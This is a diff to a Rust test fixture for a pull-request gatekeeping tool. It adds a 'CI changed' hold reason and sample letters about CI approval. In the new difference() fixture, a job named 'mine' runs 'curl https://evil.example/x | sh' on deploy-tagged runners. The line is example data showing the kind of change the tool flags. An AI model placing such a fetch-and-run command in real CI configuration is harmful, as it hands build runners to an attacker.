@@ -1,13 +1,14 @@
 //! A request, a run and a pen to write letters with.
 
 use gatepost::mail::letter::{Case, Delivering, Draft, ListWords, Missed, Pen, TargetWords};
+use gatepost::pull::ci_change::CiDifference;
 use gatepost::pull::cover::{Cover, Person, Request};
 use gatepost::pull::expiry::{ExpiringKey, Warning};
 use gatepost::pull::ids::{ListName, ObjectId, PipelineId, PullNumber, RunId, TargetName};
 use gatepost::pull::near_miss::NearMiss;
 use gatepost::pull::request::{HoldReason, Plan, Pull, Retraction, Stage, Trusted};
 use gatepost::pull::revision::{Lineage, Replaced};
-use gatepost::pull::run::{Run, RunStage, Why};
+use gatepost::pull::run::{CiCheck, Run, RunStage, Why};
 use gatepost::pull::signer::{Objection, Scope};
 use gatepost::pull::tag::{Candidate, ConflictFile, Drift, Pinned, Signer, Tag, Verification};
 use gatepost::pull::verdict::{
@@ -178,8 +179,11 @@ impl World {
     }
 
     pub fn held(&mut self, reason: HoldReason, audience: Audience) -> Draft {
-        let trusted =
-            matches!(reason, HoldReason::OldTag { .. } | HoldReason::Moved { .. }).then(trusted);
+        let known = matches!(
+            reason,
+            HoldReason::OldTag { .. } | HoldReason::Moved { .. } | HoldReason::CiChanged { .. }
+        );
+        let trusted = known.then(trusted);
         let unproved =
             matches!(reason, HoldReason::UnknownKey { .. }).then(|| self::trusted().pinned);
         self.pull.stage = Stage::Held { trusted, unproved, reason, since: self.now, told: false };
@@ -223,6 +227,7 @@ pub fn run(why: Why) -> Run {
         why,
         ci_ref: "staging-gatepost-17-1".into(),
         created_at: "2026-01-02T10:16:00Z".parse().unwrap(),
+        ci: CiCheck::Due,
         stage: RunStage::Ended {
             had: None,
             sought: None,
@@ -381,6 +386,24 @@ pub fn refusals() -> Vec<(&'static str, Refusal)> {
     ]
 }
 
+/// What a request would change in CI: more than a record keeps.
+fn difference() -> CiDifference {
+    CiDifference {
+        digest: "5f".repeat(32),
+        summary: "1 job added, 1 job changed, 1 CI file changed".into(),
+        lines: vec![
+            "job check-s390x, tags: [\"s390x\"] -> [\"deploy\"]".into(),
+            "job mine is added: script: [\"curl https://evil.example/x | sh\"]; stage: test; \
+             tags: [\"deploy\"]"
+                .into(),
+            "configuration of mine is added: rules: - if: $CI_COMMIT_BRANCH; script: - curl \
+             https://evil.example/x | sh"
+                .into(),
+        ],
+        total: 4,
+    }
+}
+
 /// Every reason to hold, with a name for each.
 pub fn holds() -> Vec<(&'static str, HoldReason)> {
     vec![
@@ -403,6 +426,7 @@ pub fn holds() -> Vec<(&'static str, HoldReason)> {
             },
         ),
         ("held-moved", HoldReason::Moved { was: id('9'), is: id('3') }),
+        ("held-ci", HoldReason::CiChanged { run: RunId(23), difference: difference() }),
         ("held-old-tag", HoldReason::OldTag { tagged_at: "2025-11-30T08:00:00Z".parse().unwrap() }),
     ]
 }
@@ -437,6 +461,10 @@ pub fn every_letter(delivering: Delivering) -> Vec<(String, Draft)> {
             letters.push((name, World::new(delivering).held(reason.clone(), audience)));
         }
     }
+    let mut approved = World::new(delivering);
+    let dropped = vec!["build-s390x".to_owned()];
+    approved.run.ci = CiCheck::Approved { by: "rita".into(), dropped };
+    letters.push(("passed-ci-approved".into(), approved.tested(outcomes().remove(0).1)));
     let mut late = World::new(delivering);
     late.now = "2026-01-03T10:40:00Z".parse().unwrap();
     let because = "it is third in the queue, and one pipeline may run at a time.";
